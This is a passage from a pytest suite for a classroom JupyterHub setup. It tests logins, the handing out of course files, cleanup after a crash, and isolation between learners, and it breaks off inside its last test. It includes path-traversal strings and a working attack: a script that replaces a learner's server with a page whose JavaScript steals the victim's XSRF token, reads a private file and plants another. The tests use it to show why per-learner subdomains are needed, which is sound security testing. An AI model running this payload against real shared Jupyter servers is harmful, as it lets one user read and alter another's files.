"""The class's hub as it is: started, logged into, attacked, updated and ended."""

import asyncio
import contextlib
import http.client
import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

pytest_plugins = ["lab"]

ROOT = Path(__file__).resolve().parent.parent
CLASSROOM = ROOT / "classroom"
START = "notebooks/00_start_here.ipynb"
LOOPBACK = "127.0.0.1"

sys.path.insert(0, str(CLASSROOM))


def said_by(code, **variables):
    """Return the exit code and the words of a Python that runs `code` in classroom/."""
    env = {**os.environ, **variables}
    command = [sys.executable, "-c", code]
    done = subprocess.run(command, cwd=CLASSROOM, env=env, capture_output=True, text=True)
    return done.returncode, " ".join((done.stdout + done.stderr).split())


def test_on_windows_it_says_what_to_do():
    code, said = said_by("import os; os.name = 'nt'; exec(open('hub.py').read())")
    assert code == 1
    assert said.startswith("JupyterHub does not run on Windows: start this inside")


if os.name != "nt":  # where JupyterHub runs
    import leftovers
    import psutil
    import requests
    import trial
    import websocket
    from door import folder_name, is_name, normalized, own_password, public_url, read_names
    from jupyterhub.app import JupyterHub
    from jupyterhub.spawner import SpawnException
    from learner import course_files, digest, give
    from learners import Hub, Learner
    from links import pull_link
    from traitlets.config import PyFileConfigLoader

    STRANGE = ["../x", "..", "a/b", "a\\b", ".x", "%2e%2e", "~root", "a\x00b", "x" * 65, "\uff0fx"]
    UNUSUAL = ["zoë ünal", "李 雷", "o'neil", "y" * 64]

    # Who gets in, without a hub -------------------------------------------------------------

    @given(st.lists(st.text(max_size=80), min_size=2, max_size=2, unique_by=normalized))
    @settings(derandomize=True, max_examples=500, deadline=None)
    def test_a_name_is_one_plain_folder_and_nobody_elses(names):
        assert [normalized(normalized(name)) for name in names] == [*map(normalized, names)]
        one, other = map(folder_name, map(normalized, names))
        assert one != other
        assert Path("/homes", one).resolve().parent == Path("/homes")
        assert len(one) <= 48
        assert one == one.casefold()  # some file systems know no capitals

    def test_a_name_cannot_be_made_to_meet_the_folder_of_another():
        assert is_name("zoë")
        assert not is_name(folder_name("zoë"))
        assert normalized("Zoe\u0308  \tÜNAL") == normalized(" zoë ünal ") == "zoë ünal"

    @pytest.mark.parametrize("name", STRANGE)
    def test_a_strange_name_is_no_name(name):
        assert not is_name(normalized(name))

    def test_each_name_of_a_list_has_its_own_password(tmp_path):
        (tmp_path / "names.txt").write_text("Anna\n\nZoë Ünal\n", encoding="utf-8")
        names = read_names(tmp_path / "names.txt")
        assert names == ["anna", "zoë ünal"]
        assert own_password("class word", "Anna") == own_password("class word", "anna ")
        codes = {own_password(secret, name) for secret in ("one", "two") for name in names}
        assert len(codes) == 4
        assert all(len(code) == 12 for code in codes)

    @pytest.mark.parametrize("text", ["anna\n../x\n", "Anna\nanna\n", "", "\n \n"])
    def test_a_list_with_a_wrong_name_or_none_is_refused(tmp_path, text):
        (tmp_path / "names.txt").write_text(text, encoding="utf-8")
        with pytest.raises(ValueError, match=r"'anna'|'\.\./x'|there is no name"):
            read_names(tmp_path / "names.txt")

    def test_guesses_at_a_name_wait_for_each_other_and_nobody_for_them(monkeypatch):
        monkeypatch.setattr(trial, "WAIT", 0.01)
        door = trial.slow(trial.ClassAuthenticator)(user_password="the right one")
        answered = []

        async def try_(name, word, address):
            handler = SimpleNamespace(request=SimpleNamespace(remote_ip=address))
            found = await door.authenticate(handler, {"username": name, "password": word})
            answered.append((name, found, address))

        async def all_at_once():
            guesses = [try_("Anna", "wörd", "::1"), try_("anna ", "word", "::1")]
            right = [(name, "the right one", at) for name, at in [("anna", "::1"), ("anna", "::2")]]
            await asyncio.gather(
                *guesses, *(try_(*each) for each in [*right, ("ben", *right[0][1:])])
            )

        asyncio.run(all_at_once())
        assert answered == [
            ("anna", "anna", "::2"),
            ("ben", "ben", "::1"),
            ("Anna", None, "::1"),
            ("anna ", None, "::1"),
            ("anna", "anna", "::1"),
        ]

    def test_without_a_password_nobody_gets_in():
        door = trial.ClassAuthenticator(own_passwords=True)
        data = {"username": "anna", "password": own_password("", "anna")}
        assert asyncio.run(door.authenticate(None, data)) is None

    @pytest.mark.parametrize("spawner", ["trial", "system"])
    def test_every_hub_begins_anew_and_keeps_learners_apart(tmp_path, monkeypatch, spawner):
        (tmp_path / "names").write_text("anna")
        settings = {"SPAWNER": spawner, "HUB": str(tmp_path), "NAMES": str(tmp_path / "names")}
        settings |= {"PROXY": "proxy", "PASSWORD": "the class word", "SUBDOMAIN": "hub.localhost"}
        for name, value in settings.items():
            monkeypatch.setenv(f"COURSE_{name}", value)
        loader = PyFileConfigLoader("jupyterhub_config.py", str(CLASSROOM))
        hubs = [JupyterHub(config=loader.load_config()) for _ in range(2)]
        assert len({hub.cookie_secret for hub in hubs}) == 2
        assert hubs[0].db_url == "sqlite:///:memory:"
        assert hubs[0].subdomain_host == "http://hub.localhost:8000"
        door = hubs[0].authenticator_class(config=hubs[0].config)
        assert [door.check_allowed(name) for name in ("anna", "bert")] == [True, False]
        assert hubs[0].config.Spawner.disable_user_config is True

    def test_a_usual_port_is_left_out_of_the_address():
        tls = {"COURSE_TLS_KEY": "/k", "COURSE_PORT": "443", "COURSE_SUBDOMAIN": "hub.example.org"}
        assert public_url(tls) == "https://hub.example.org"
        assert public_url({"COURSE_PORT": "443", "COURSE_ADDRESS": "::1"}) == "http://[::1]:443"

    def test_a_full_disk_gives_a_sentence():
        full = next(place for place in ("/proc", "/dev") if shutil.disk_usage(place).free == 0)
        with pytest.raises(SpawnException, match="The disk of this hub is full: ask for room"):
            asyncio.run(trial.TrialSpawner(homes=full).start())

    # What a learner gets, without a hub -----------------------------------------------------

    @pytest.fixture
    def course(tmp_path):
        """A small course: one file that will change, one that will not, one that is nobody's."""
        folder = tmp_path / "the course"
        for name, text in {"a.ipynb": "a1", "data/b.csv": "b1", "progress.jsonl": "mine"}.items():
            file = folder / "notebooks" / name
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text)
        return folder

    def written(folder):
        files = [path for path in folder.rglob("*") if path.is_file() and path.name[0] != "."]
        return {path.relative_to(folder / "notebooks").as_posix(): path for path in files}

    def test_a_learner_gets_the_course_and_not_the_teachers_progress(course, tmp_path):
        give(course, tmp_path / "anna")
        assert set(written(tmp_path / "anna")) == {"a.ipynb", "data/b.csv"}
        assert give(course, tmp_path / "anna") == []

    def test_a_new_version_takes_nothing_from_a_learner(course, tmp_path):
        anna = tmp_path / "anna"
        give(course, anna)
        (anna / "notebooks/a.ipynb").write_text("anna's")
        (anna / "notebooks/c.ipynb").write_text("anna's own")
        (anna / "notebooks/data/b.csv").unlink()
        for name, text in {"a.ipynb": "a2", "data/b.csv": "b2", "c.ipynb": "c2"}.items():
            (course / "notebooks" / name).write_text(text)
        new = {name: f"{name}-new-{digest(name.encode() + b'2')[:6]}.ipynb" for name in "ac"}
        for _ in range(2):  # the second time brings nothing
            give(course, anna)
            assert {name: path.read_text() for name, path in written(anna).items()} == {
                "a.ipynb": "anna's",
                "c.ipynb": "anna's own",
                "data/b.csv": "b2",
                new["a"]: "a2",
                new["c"]: "c2",
            }

    def test_what_a_learner_left_alone_follows_the_course(course, tmp_path):
        give(course, tmp_path / "anna")
        (course / "notebooks/a.ipynb").write_text("a2")
        assert give(course, tmp_path / "anna") == ["notebooks/a.ipynb"]
        assert (tmp_path / "anna/notebooks/a.ipynb").read_text() == "a2"

    @pytest.mark.parametrize("list_of_files", ["", "[]", '{"notebooks/a.ipynb": 1}', "\udcff"])
    def test_a_damaged_list_costs_no_edit(course, tmp_path, list_of_files):
        give(course, tmp_path / "anna")
        (tmp_path / "anna/notebooks/a.ipynb").write_text("anna's")
        (tmp_path / "anna/.course.json").write_bytes(list_of_files.encode(errors="surrogateescape"))
        give(course, tmp_path / "anna")
        assert (tmp_path / "anna/notebooks/a.ipynb").read_text() == "anna's"

    def test_a_file_in_the_way_stops_no_other(course, tmp_path):
        anna = tmp_path / "anna"
        (anna / "notebooks").mkdir(parents=True)
        (anna / "notebooks/data").write_text("anna's, where a folder would be")
        (course / "notebooks/z.ipynb").write_text("z1")
        for _ in range(2):
            with pytest.raises(OSError, match=r"^notebooks/data/b\.csv \(File exists\)$"):
                give(course, anna)
            texts = {name: path.read_text() for name, path in written(anna).items()}
            assert texts == {
                "a.ipynb": "a1",
                "data": "anna's, where a folder would be",
                "z.ipynb": "z1",
            }
        (course / "notebooks/a.ipynb").write_text("a2")
        with pytest.raises(OSError, match=r"b\.csv"):
            give(course, anna)
        assert (anna / "notebooks/a.ipynb").read_text() == "a2"  # it was remembered as given

    def test_a_link_out_of_the_folder_is_not_followed(course, tmp_path):
        anna, outside = tmp_path / "anna", tmp_path / "outside"
        outside.mkdir()
        (outside / "a.ipynb").write_text("another's")
        anna.mkdir()
        (anna / "notebooks").symlink_to(outside)
        give(course, anna)
        assert [path.name for path in outside.iterdir()] == ["a.ipynb"]
        assert (outside / "a.ipynb").read_text() == "another's"

    # The hub ----------------------------------------------------------------------------------

    @pytest.fixture(scope="module")
    def teacher(tmp_path_factory):
        """A copy of the course that can get new versions."""
        folder = tmp_path_factory.mktemp("teacher") / "une leçon"
        for part in ("binder", "classroom", "notebooks"):
            made = shutil.ignore_patterns("__pycache__", ".*", "progress*", "run_*")
            shutil.copytree(ROOT / part, folder / part, ignore=made)
        with open(folder / "classroom/jupyterhub_config.py", "a", encoding="utf-8") as file:
            file.write("c.Spawner.args.append('--LabApp.expose_app_in_browser=True')\n")
            file.write("c.Spawner.poll_interval = 600  # time for an attack on a busy machine\n")
        return folder

    @pytest.fixture(scope="module")
    def hub(tmp_path_factory, teacher):
        hub = Hub(tmp_path_factory.mktemp("hub"), root=teacher)
        yield hub
        hub.stop()

    @pytest.fixture(scope="module")
    def anna(hub):
        """A learner with a server."""
        learner = Learner(hub, "anna")
        assert learner.log_in(hub.password).status_code == 302
        assert "jupyter-config-data" in learner.start_server().text
        return learner

    @pytest.fixture(scope="module")
    def ben(hub):
        """A learner who is in, and curious."""
        learner = Learner(hub, "ben")
        assert learner.log_in(hub.password).status_code == 302
        return learner

    def test_it_says_where_it_is_and_with_which_password(hub):
        assert urlsplit(hub.url).hostname == LOOPBACK
        assert len(hub.password) == 14
        assert stat.S_IMODE(hub.folder.stat().st_mode) == 0o700
        assert ("You are root" in " ".join(hub.said)) == (os.geteuid() == 0)
        assert "Using Authenticator: trial.Slow" in hub.log()

    @pytest.mark.parametrize("password", ["", "wrong", "pässwörd", "x" * 10_000])
    def test_a_wrong_password_is_refused(hub, password):
        learner = Learner(hub, "anna")
        assert learner.log_in(password).status_code == 403
        assert learner.request("GET", "hub/api/user").status_code == 403

    def test_a_form_from_another_page_is_refused(hub):
        form = {"username": "anna", "password": hub.password}
        answer = requests.post(f"{hub.url}hub/login", data=form, allow_redirects=False)
        assert answer.status_code == 403

    @pytest.mark.parametrize("name", [name for name in STRANGE if name.isprintable()])
    def test_a_strange_name_is_not_let_in(hub, name):
        assert Learner(hub, name).log_in(hub.password).status_code == 403
        made = {path.name for path in hub.folder.rglob("*") if "sqlite" not in path.name}
        assert made == {"learners", "hub.log", "lock", "proxy.pid", "sockets"}

    @pytest.mark.parametrize("name", UNUSUAL)
    def test_an_unusual_name_is_let_in(hub, name):
        assert Learner(hub, name.upper()).log_in(hub.password).status_code == 302

    def test_a_learner_gets_the_course(hub, anna, teacher):
        mine = hub.folder / "learners/anna/course"
        for name in course_files(teacher):
            assert (mine / name).read_bytes() == (teacher / name).read_bytes()
        listed = anna.api("GET", "contents/notebooks").json()["content"]
        assert {"00_start_here.ipynb", "data", "glossary.md"} <= {each["name"] for each in listed}

    @pytest.mark.parametrize("way", ["api/contents", "files"])
    @pytest.mark.parametrize("up", ["/../..", "/%2e%2e/%2e%2e", "/", "/..%2f.."])
    def test_a_server_shows_nothing_outside_the_folder(hub, anna, way, up):
        secret = hub.folder / "learners/secret.txt"
        secret.write_text("nobody else's")
        path = f"{up}{secret}" if up == "/" else f"{up}/{secret.name}"
        cookies = {each.name: each.value for each in anna.session.cookies}
        header = {"Cookie": "; ".join(f"{name}={value}" for name, value in cookies.items())}
        answers = []
        for end in (path, f"/{START}"):  # sent as it stands, which requests would not do
            connection = http.client.HTTPConnection(urlsplit(hub.url).netloc)
            connection.request("GET", f"/{anna.home}{way}{end}", headers=header)
            answer = connection.getresponse()
            answers.append((answer.status, answer.read()))
            connection.close()
        # A redirection shows nothing: it leads to another page of the hub, which asks again.
        assert answers[0][0] in (301, 302, 400, 403, 404)
        assert b"nobody else's" not in answers[0][1]
        assert answers[1][0] == 200

    @pytest.mark.parametrize(
        "path",
        [
            *("lab", "tree", "api/contents", f"api/contents/{START}", "api/kernels", "api/status"),
            *(f"files/{START}", "api/terminals", "api/sessions", "files/.course.json"),
        ],
    )
    def test_another_learner_is_refused(hub, anna, ben, path):
        assert ben.request("GET", f"{anna.home}{path}").status_code in (403, 404)
        stranger = requests.get(f"{hub.url}{anna.home}{path}", allow_redirects=False)
        assert stranger.status_code in (302, 403, 404)
        assert "/hub/" in stranger.headers.get("Location", "/hub/")

    def test_another_learner_cannot_change_anything(anna, ben):
        ben.request("GET", f"{anna.home}lab")
        assert ben.xsrf(anna.home)  # so that what is refused is ben, not a form without it
        content = {"type": "file", "format": "text", "content": "ben was here"}
        answers = [
            ben.api("PUT", "contents/notebooks/ben.txt", home=anna.home, json=content),
            ben.api("DELETE", f"contents/{START}", home=anna.home),
            ben.api("POST", "kernels", home=anna.home, json={"name": "python3"}),
            ben.request("DELETE", "hub/api/users/anna/server", params={"_xsrf": ben.xsrf("hub/")}),
            ben.request("POST", "hub/api/users/anna/tokens", params={"_xsrf": ben.xsrf("hub/")}),
            ben.request("GET", "hub/api/users/anna"),
            ben.request("GET", "hub/api/users"),
            ben.request("GET", "hub/spawn/anna"),
            ben.request("GET", "hub/admin"),
        ]
        assert [answer.status_code for answer in answers if answer.ok] == []
        assert anna.api("GET", f"contents/{START}").ok

    def test_the_server_itself_asks_who_it_is(hub, anna, ben):
        """Past the proxy, at the port on which the server listens."""
        server = server_of(hub, "anna")
        [door] = listening(server)
        url = f"http://{door.ip}:{door.port}/{anna.home}api/contents"
        assert requests.get(url).status_code == 403
        assert ben.session.get(url).status_code == 403

    def test_there_are_no_terminals(anna):
        assert anna.api("POST", "terminals").status_code in (404, 405)

    def test_a_learners_file_is_no_module_of_the_server(hub, ben):
        home = hub.folder / "learners/ben/course"
        home.mkdir(parents=True)
        (home / "random.py").write_text("raise SystemExit('this is mine')")
        (home.parent / ".jupyter").mkdir()
        (home.parent / ".jupyter/jupyter_server_config.py").write_text("raise SystemExit('mine')")
        assert "jupyter-config-data" in ben.start_server().text

    def server_of(hub, name):
        """Return the process of a learner's server."""
        for process, command in hub.commands():  # the one command turns into the other
            is_server = "learner.py" in command or "jupyterhub.singleuser" in command
            if is_server and process.environ()["JUPYTERHUB_USER"] == name:
                return process
        raise LookupError(name)

    def listening(process):
        return [c.laddr for c in process.net_connections("inet") if c.status == psutil.CONN_LISTEN]

    def test_a_kernel_talks_over_files_that_only_its_learner_opens(hub, anna):
        kernel = anna.open_kernel(START)
        assert kernel.run("6 * 7") == "42"
        assert kernel.run("import torch; print(torch.get_num_threads())").strip() == "1"
        ask = "import os, ipykernel; print(os.getpid(), ipykernel.get_connection_file())"
        ident, file = kernel.run(ask).split()
        connection = json.loads(Path(file).read_text("utf-8"))
        assert connection["transport"] == "ipc"
        folder = Path(connection["ip"]).parent
        assert [each.stat().st_mode & 0o777 for each in (folder, folder.parent)] == [0o700] * 2
        assert len(list(folder.glob("kernel-*-ipc-*"))) == 5
        # ipykernel takes the printed text of forked processes at one port, from who knows its key.
        ask = "from ipykernel.kernelapp import IPKernelApp as app; app.instance().iopub_thread"
        forks = kernel.run(f"{ask}._pipe_port")
        doors = listening(psutil.Process(int(ident)))
        assert [(door.ip, door.port) for door in doors] == [(LOOPBACK, int(forks))]
        kernel.close()

    def test_a_kernel_of_another_learner_is_refused(hub, anna, ben):
        kernel = anna.open_kernel(START)
        kernel.close()
        cookies = "; ".join(f"{each.name}={each.value}" for each in ben.session.cookies)
        path = f"{anna.home}api/kernels/{kernel.ident}/channels"
        with pytest.raises(websocket.WebSocketBadStatusException, match="403"):
            websocket.create_connection(
                f"ws://{urlsplit(hub.url).netloc}/{path}", cookie=cookies, timeout=30
            )

    def test_everything_listens_on_loopback_alone(hub, anna):
        doors = [door for process, _ in hub.commands() for door in listening(process)]
        assert len(doors) >= 4  # the proxy's two, the hub's, a server's
        assert {door.ip for door in doors} == {LOOPBACK}

    def test_idle_servers_are_looked_for(hub):
        assert hub.part("jupyterhub_idle_culler").is_running()

    def test_the_pull_link_leads_to_the_learners_own_server(hub, anna):
        link = pull_link(hub.url, "https://github.com/someone/course.git", "v1")
        page = anna.session.get(link)
        assert page.ok
        assert urlsplit(page.url).path == "/user/anna/git-pull"
        assert parse_qs(urlsplit(page.url).query) == {
            "repo": ["https://github.com/someone/course.git"],
            "branch": ["v1"],
            "urlpath": [f"lab/tree/course/{START}"],
        }
        assert "someone/course" in page.text

    def test_a_second_hub_in_the_same_folder_is_refused(hub):
        code, said = said_by("import hub; hub.main([])", COURSE_HUB=str(hub.folder))
        assert code == 1
        assert f"A hub runs in {hub.folder} already" in said
        assert f"kill {hub.part('-m jupyterhub ').pid}" in said

    def test_a_learner_logs_in_and_runs_a_notebook_in_a_browser(hub, chromium):
        from lab import GIVEN_UP, READY, RUN_ALL, RUN_MS

        home = hub.folder / "learners" / folder_name("zoë ünal")
        page, hosts, problems = chromium.new_page(), set(), []
        page.on("request", lambda request: hosts.add(urlsplit(request.url).hostname))
        page.on("pageerror", lambda error: problems.append(str(error)))
        page.goto(hub.url)
        page.get_by_label("Username").fill(" Zoë  Ünal")
        page.get_by_label("Password").fill(hub.password)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_function(READY, timeout=RUN_MS)
        assert unquote(page.url).endswith("/user/zoë ünal/lab/tree/" + START)
        assert (home / "course" / START).is_file()
        page.evaluate(RUN_ALL)
        page.locator(".jp-Dialog .jp-mod-accept").click()
        page.wait_for_function("window.course.done", timeout=RUN_MS)
        cells = page.evaluate(
            "jupyterapp.shell.currentWidget.content.widgets.map(cell => cell.model.toJSON())"
        )
        codes = [cell for cell in cells if cell["cell_type"] == "code"]
        assert [cell["execution_count"] for cell in codes] == list(range(1, len(codes) + 1))
        assert page.evaluate("window.course.errors") == []
        assert page.locator(".jp-Dialog, .Toastify__toast").all_inner_texts() == []
        assert hosts <= {LOOPBACK, None, ""}
        assert [problem for problem in problems if problem != GIVEN_UP] == []
        page.close()

    # A learner replaces the own server by this, and waits for another one to press the button.
    ATTACKER = """
import http.server, os, sys, time, urllib.parse
page, server = sys.argv[1:]
door = "127.0.0.1", urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
os.kill(int(server), 9)

class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(page.encode())

    def log_message(self, *words):
        pass  # stderr ended with the kernel

while True:
    try:
        place = http.server.ThreadingHTTPServer(door, Page)
        break
    except OSError:
        time.sleep(0.05)
place.serve_forever()
"""
    PAGE = """<button>A prize</button><script>
document.querySelector("button").onclick = () => {
    const home = "HOME", opened = window.open(home + "api/status");
    const file = (name, more) => fetch(home + "api/contents/" + name, more);
    const look = async () => {
        try {
            if (!opened.location.href.startsWith(home)) return setTimeout(look, 50);
            const found = /_xsrf=([^;]+)/.exec(opened.document.cookie);
            const headers = {"X-XSRFToken": found[1]};
            const read = await (await file("private.txt", {headers})).json();
            const body = JSON.stringify({type: "file", format: "text", content: "planted"});
            const put = await file("planted.txt", {method: "PUT", headers, body});
            document.title = `${read.content} ${put.status}`;
        } catch (error) { document.title = error.name; }
    };
    file("private.txt", {credentials: "include"}).then(
        answer => look(document.plain = answer.status), error => look(document.plain = error.name));
};
</script>"""

    def attack(hub, attacker, victim, secret, browser):
        """Let a learner's page act on the server of one who opens it; return what it told."""
        mine = hub.folder / "learners" / folder_name(victim) / "course"
        page = browser.new_context().new_page()
        page.goto(f"{hub.url}hub/login")
        page.get_by_label("Username").fill(victim)
        page.get_by_label("Password").fill(secret)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url("**/user/*/lab**", timeout=300_000)
        home = page.url.split("lab")[0]
        (mine / "private.txt").write_text("a diary")
        code = PAGE.replace("HOME", home)
        attacker.start_server()
        kernel = attacker.open_kernel(START)
        with contextlib.suppress(websocket.WebSocketException):  # with the server it is gone
            kernel.run(
                "import os, subprocess, sys\n"
                f"words = ['-P', '-c', {ATTACKER!r}, {code!r}, str(os.getppid())]\n"
                "subprocess.Popen([sys.executable, *words], start_new_session=True)"
            )
        loads = (page.goto(hub.at(f"{attacker.home}prize")).text() for _ in range(200))
        assert any("A prize" in text for text in loads), page.content()  # until it is there
        page.get_by_role("button", name="A prize").click()
        page.wait_for_function("document.title", timeout=60_000)
        told = page.title(), page.evaluate("document.plain")
        page.context.close()
        return told, (mine / "planted.txt").exists()

    def test_one_address_for_all_lets_a_page_act_as_whoever_opens_it(hub, anna, ben, chromium):
        """What SECURITY.md admits, and why COURSE_SUBDOMAIN is there."""
        told = attack(hub, ben, "anna", hub.password, chromium.browser)
        assert told == (("a diary 201", 403), True)

    def test_work_survives_a_restart_and_a_new_version(hub, anna, teacher):
        """The last test of the hub: it ends it, and starts it again with names and little time."""
        path = "contents/notebooks/01_data.ipynb"
        notebook = anna.api("GET", path).json()
        notebook["content"]["cells"][0]["source"] = "# Anna was here"
        answer = anna.api("PUT", path, json=notebook)
        assert answer.ok
        mine = hub.folder / "learners/anna/course/notebooks"
        edited = (mine / "01_data.ipynb").read_bytes()
        assert b"# Anna was here" in edited

        xsrf = {"_xsrf": anna.xsrf("hub/")}
        asked = anna.request("POST", "hub/api/users/anna/tokens", params=xsrf)
        token = {"Authorization": f"token {asked.json()['token']}"}
        assert requests.get(f"{hub.url}hub/api/user", headers=token).json()["name"] == "anna"
        assert anna.request("GET", "hub/api/user").json()["name"] == "anna"

        assert Learner(hub, "anna").log_in("a wrong one").status_code == 403
        processes, sockets = hub.processes(), server_of(hub, "anna").environ()["COURSE_SOCKETS"]
        before = hub.log()
        hub.stop()
        _, alive = psutil.wait_procs(processes, timeout=20)
        assert alive == []
        assert hub.process.returncode == 0
        refused = before.count(" Failed login for ")
        assert (
            hub.said[-1] == f"Wrong names or passwords: {refused}. Each is in {hub.folder}/hub.log."
        )
        assert refused >= 1
        assert not Path(sockets).exists()
        with socket.socket() as door:
            assert door.connect_ex((LOOPBACK, urlsplit(hub.url).port)) != 0

        new = [teacher / "notebooks" / name for name in ("01_data.ipynb", "11_new.ipynb")]
        for file in new:
            file.write_bytes((ROOT / START).read_bytes())
        (teacher / "names.txt").write_text("Anna\nBen\n", encoding="utf-8")
        later = Hub(
            hub.folder,
            root=teacher,
            COURSE_NAMES=str(teacher / "names.txt"),
            COURSE_PASSWORD="the same all week",
            COURSE_IDLE="2",
        )
        try:
            assert (hub.folder / "hub-before.log").read_text("utf-8").startswith(before)
            anna.hub = later  # on the list, but with a cookie and a token of the last hub
            assert anna.request("GET", "hub/api/user").status_code == 403
            assert requests.get(f"{later.url}hub/api/user", headers=token).status_code == 403
            again = Learner(later, "anna")
            assert again.log_in(own_password("the same all week", "ben")).status_code == 403
            assert again.log_in("the same all week").status_code == 403
            carla = own_password("the same all week", "carla")  # right, and not on the list
            assert Learner(later, "carla").log_in(carla).status_code == 403
            assert again.log_in(own_password("the same all week", "anna")).status_code == 302
            again.begin_server()
            server_of(later, "anna").wait(timeout=120)  # nobody uses it: the culler ends it
            assert "Culling server anna" in later.log()
            assert (mine / "01_data.ipynb").read_bytes() == edited
            [beside] = mine.glob("01_data-new-*.ipynb")
            assert beside.read_bytes() == new[0].read_bytes()
            assert (mine / "11_new.ipynb").is_file()
        finally:
            later.stop()

    def test_two_hubs_at_one_port_and_a_kill_leave_one_that_works(
        tmp_path, teacher, chromium, request
    ):
        """Both start at once; one is refused, one is killed as by a full memory, and comes back."""
        with socket.socket() as door:
            door.bind((LOOPBACK, 0))
            port = str(door.getsockname()[1])

        def start(folder):
            try:
                return Hub(folder, root=teacher, COURSE_PORT=port)
            except RuntimeError as error:
                return str(error)

        folders = [tmp_path / "one", tmp_path / "other"]
        with ThreadPoolExecutor() as pool:
            hubs = list(pool.map(start, folders))
        running = [each for each in hubs if isinstance(each, Hub)]
        for each in running:
            request.addfinalizer(each.stop)
        [said] = [each for each in hubs if isinstance(each, str)]
        assert re.search(rf"Port {port} (was taken by another program|of {LOOPBACK} cannot)", said)
        assert leftovers.end(folders[hubs.index(said)]) == 0  # it ended what it had begun
        [hub] = running
        anna = Learner(hub, "anna")
        assert anna.log_in(hub.password).status_code == 302  # it is the one that told this password
        anna.start_server()
        sockets = Path(server_of(hub, "anna").environ()["COURSE_SOCKETS"])
        left = [process for process in hub.processes() if process.pid != hub.process.pid]
        assert len(left) >= 4  # the hub, its proxy, the culler, a server
        os.kill(hub.process.pid, signal.SIGKILL)  # who would have tidied up
        hub.part_of(left, "-m jupyterhub ").kill()
        hub.process.wait()
        bystander = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
        (hub.folder / "proxy.pid").write_text(str(bystander.pid))
        words = {"COURSE_PASSWORD": hub.password, "COURSE_SUBDOMAIN": "hub.localhost"}
        later = Hub(hub.folder, root=teacher, COURSE_PORT=port, **words)
        try:
            assert f"{len(left) - 1} processes that it left have been ended" in later.said[0]
            assert psutil.wait_procs(left, timeout=20)[1] == []
            assert not sockets.exists()
            assert bystander.poll() is None
            assert later.url == f"http://hub.localhost:{port}/"
            again = Learner(later, "anna")
            assert again.log_in(hub.password).status_code == 302
            assert "jupyter-config-data" in again.start_server().text
            # Each learner has an address of their own, so what one puts there reaches nobody else.
            told = attack(later, again, "zoë ünal", hub.password, chromium.browser)
            assert told == (("SecurityError", "TypeError"), False)
        finally:
            later.stop()
            bystander.communicate(b"\n")

    # What is in the way ------------------------------------------------------------------------

    RUN = "import hub; hub.main([])"

    def test_a_taken_port_is_named(tmp_path):
        with socket.socket() as door:
            door.bind((LOOPBACK, 0))
            door.listen()
            port = str(door.getsockname()[1])
            code, said = said_by(RUN, COURSE_HUB=str(tmp_path), COURSE_PORT=port)
        assert code == 1
        assert said.startswith(f"Port {port} of {LOOPBACK} cannot be used")
        assert said.endswith("set COURSE_PORT to another, such as 8010.")

    def test_a_folder_that_cannot_be_written_is_named(tmp_path):
        (tmp_path / "file").write_text("")
        code, said = said_by(RUN, COURSE_HUB=str(tmp_path / "file/hub"))
        assert code == 1
        assert said.startswith(f"The folder {tmp_path / 'file/hub'} cannot be written")

    @pytest.mark.parametrize(
        ("variables", "words"),
        [
            ({"COURSE_PASSWORD": "short"}, "COURSE_PASSWORD is shorter than 8 letters"),
            ({"COURSE_PORT": "80a"}, "COURSE_PORT is '80a'"),
            ({"COURSE_NAMES": "/nowhere"}, "COURSE_NAMES cannot be read"),
            ({"COURSE_NAMES": "names.txt"}, "COURSE_NAMES is 'names.txt': write the whole path"),
            ({"COURSE_HUB": "~/hub"}, "COURSE_HUB is '~/hub': write the whole path"),
            ({"COURSE_TLS_KEY": ""}, "COURSE_TLS_KEY is '': write the whole path"),
            ({"COURSE_TLS_KEY": "/k"}, "COURSE_TLS_KEY and COURSE_TLS_CERT go together"),
            ({"COURSE_MEMORY": "2GB"}, "COURSE_MEMORY is '2GB': write bytes, such as 2G"),
            ({"COURSE_CPU": "half"}, "COURSE_CPU is 'half': write cores, such as 1 or 0.5"),
            ({"COURSE_IDLE": "1h"}, "COURSE_IDLE is '1h': write whole seconds, such as 3600"),
            ({"COURSE_ADDRESS": "0.0.0.0"}, "COURSE_ADDRESS is '0.0.0.0': beyond this machine"),
            ({"COURSE_ADDRESS": "::", "COURSE_SPAWNER": "system"}, "COURSE_ADDRESS is '::'"),
            ({"COURSE_SUBDOMAIN": "10.0.0.1"}, "COURSE_SUBDOMAIN is '10.0.0.1': write a host name"),
            ({"COURSE_SPAWNER": "docker"}, "COURSE_SPAWNER is 'docker'"),
        ],
    )
    def test_a_wrong_setting_is_named(tmp_path, variables, words):
        code, said = said_by(RUN, **{"COURSE_HUB": str(tmp_path), "COURSE_PORT": "0"} | variables)
        assert code == 1
        assert words in said
        assert "Traceback" not in said

    def test_a_folder_that_others_can_look_into_is_refused(tmp_path):
        tmp_path.chmod(0o755)
        code, said = said_by(RUN, COURSE_HUB=str(tmp_path))
        assert code == 1
        assert said.endswith(f"close it with chmod 700 {tmp_path}")

    def test_a_hub_of_accounts_says_what_it_gives_up(tmp_path, monkeypatch, capsys):
        import hub

        monkeypatch.setenv("COURSE_SPAWNER", "system")
        words = "Without COURSE_SUBDOMAIN a page under one learner's address can read and change"
        hub.announce("http://127.0.0.1:8000/", tmp_path, "", [])
        assert words in capsys.readouterr().out
        monkeypatch.setenv("COURSE_SUBDOMAIN", "hub.example.org")
        hub.announce("http://hub.example.org:8000/", tmp_path, "", [])
        assert words not in capsys.readouterr().out

    def test_a_hub_started_this_moment_has_no_number_to_kill_yet(tmp_path):
        import fcntl

        with open(tmp_path / "lock", "w") as lock:
            fcntl.flock(lock, fcntl.LOCK_EX)
            tmp_path.chmod(0o700)
            code, said = said_by(RUN, COURSE_HUB=str(tmp_path))
        assert code == 1
        assert said.endswith("where it was started, or set COURSE_HUB to another folder.")

    def test_what_root_has_fetched_opens_for_every_account(tmp_path, monkeypatch):
        import node

        package = {"name": "tool", "version": "1.0.0", "bin": "run.js"}
